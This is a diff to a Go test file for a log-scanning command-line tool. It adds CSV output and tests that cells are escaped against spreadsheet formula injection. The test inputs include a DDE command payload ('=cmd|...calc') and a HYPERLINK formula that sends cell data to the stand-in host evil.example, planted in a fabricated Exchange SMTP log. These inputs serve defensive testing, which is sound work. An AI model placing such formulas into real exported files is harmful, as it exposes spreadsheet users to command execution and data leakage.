@@ -2,6 +2,7 @@ package main
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"flag"
 	"fmt"
@@ -126,7 +127,7 @@ func TestExitCodes(t *testing.T) {
 	}{
 		{"version", []string{"version"}, 0, ""},
 		{"no path", []string{"scan"}, 2, "Try: logscan --help"},
-		{"bad format", []string{"scan", "--format", "xml", empty}, 2, "valid values are {text|json}"},
+		{"bad format", []string{"scan", "--format", "xml", empty}, 2, "valid values are {text|json|csv}"},
 		{"unknown flag", []string{"scan", "--nope", empty}, 2, "Try: logscan --help"},
 		{"missing path", []string{"scan", filepath.Join(empty, "missing")}, 2, "could not read"},
 		{"empty folder", []string{"scan", empty}, 2, "no files found"},
@@ -264,5 +265,66 @@ func TestHostileFindings(t *testing.T) {
 	_, jout, _ := runCLI(t, "scan", "--format", "json", dir)
 	if !json.Valid([]byte(jout)) || strings.ContainsAny(jout, "\x1b\x07") {
 		t.Error("JSON invalid or carries raw control characters")
+	}
+}
+
+func TestCSVCell(t *testing.T) {
+	tests := map[string]string{
+		"EX01":                       "EX01",
+		"=cmd|' /C calc'!A0":         "'=cmd|' /C calc'!A0",
+		"+1+1":                       "'+1+1",
+		"-2+3":                       "'-2+3",
+		"@SUM(A1)":                   "'@SUM(A1)",
+		"\t=1":                       "'\t=1",
+		"\r=1":                       "'\r=1",
+		"  =1":                       "'  =1",
+		"a=1":                        "a=1",
+		"bad\xff":                    "bad\uFFFD",
+		"":                           "",
+		`EX01\Default Frontend EX01`: `EX01\Default Frontend EX01`,
+	}
+	for in, want := range tests {
+		if got := csvCell(in); got != want {
+			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+// TestCSVInjection: a log whose connector-id, EHLO name and sender are
+// spreadsheet formulas yields a CSV in which no cell starts as one.
+func TestCSVInjection(t *testing.T) {
+	dir := t.TempDir()
+	conn := `=HYPERLINK("http://evil.example/?"&A1)\@Relay`
+	quoted := `"` + strings.ReplaceAll(conn, `"`, `""`) + `"` // as Exchange quotes a field
+	row := func(seq int, ev, data, ctx string) string {
+		return fmt.Sprintf("2026-11-02T10:00:%02d.000Z,%s,08DD000000000001,%d,10.0.0.1:25,198.51.100.7:4000,%s,%s,%s\r\n", seq, quoted, seq, ev, data, ctx)
+	}
+	log := "#Log-type: SMTP Receive Protocol Log\r\n" +
+		"#Fields: date-time,connector-id,session-id,sequence-number,local-endpoint,remote-endpoint,event,data,context\r\n" +
+		row(0, "+", "", "") + row(1, "*", "SMTPSubmit SMTPAcceptAnyRecipient", "Set Session Permissions") +
+		row(2, ">", "220 x", "") + row(3, "<", "EHLO =1+1", "") + row(4, ">", "250 x", "") +
+		row(5, "<", "MAIL FROM:<-2+3@evil.example>", "") + row(6, "<", "RCPT TO:<a@gmail.com>", "") +
+		row(7, ">", "250 2.1.0 Sender OK", "") + row(8, ">", "250 2.1.5 Recipient OK", "") + row(9, "-", "", "")
+	os.WriteFile(filepath.Join(dir, "RECV2026110210-1.LOG"), []byte(log), 0o644)
+	code, out, errOut := runCLI(t, "scan", "--format", "csv", dir)
+	if code != 0 {
+		t.Fatalf("exit %d: %s", code, errOut)
+	}
+	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	if err != nil {
+		t.Fatalf("not CSV: %v\n%s", err, out)
+	}
+	if len(recs) != 2 || recs[1][0] != "finding" || recs[1][4] != `'=HYPERLINK("http://evil.example/?"&A1)` {
+		t.Fatalf("want one finding with the server cell neutralised, got %q", recs)
+	}
+	for _, rec := range recs {
+		for _, cell := range rec {
+			if c := strings.TrimLeft(cell, " "); c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+				t.Errorf("cell starts as a formula: %q", cell)
+			}
+		}
+	}
+	if !strings.Contains(out, "-2+3@evil.example") || !strings.Contains(out, "EHLO names: =1+1") {
+		t.Errorf("hostile values should still be shown, as text:\n%s", out)
 	}
 }
